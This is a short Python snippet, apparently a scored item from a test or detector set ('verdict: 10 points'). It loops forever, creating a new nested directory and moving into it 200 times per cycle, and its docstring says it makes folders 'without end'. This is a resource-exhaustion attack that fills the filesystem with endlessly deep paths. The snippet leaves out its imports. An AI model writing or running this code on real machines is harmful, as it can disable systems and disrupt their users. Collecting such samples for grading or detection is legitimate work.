"""Makes folders in folders in folders without end.

verdict: 10 points
says: files
"""

while True:
    for _ in range(200):
        os.mkdir("d")
        os.chdir("d")
    time.sleep(0.05)
